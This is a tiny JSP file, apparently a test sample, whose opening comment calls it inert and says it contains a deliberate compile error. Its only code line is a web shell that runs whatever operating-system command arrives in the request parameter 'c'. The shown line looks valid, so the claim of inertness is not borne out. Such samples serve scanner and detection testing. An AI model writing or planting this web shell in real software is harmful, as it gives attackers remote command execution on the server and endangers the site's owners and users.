<% shodo inert sample: deliberate compile error, this page never runs %>
<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>
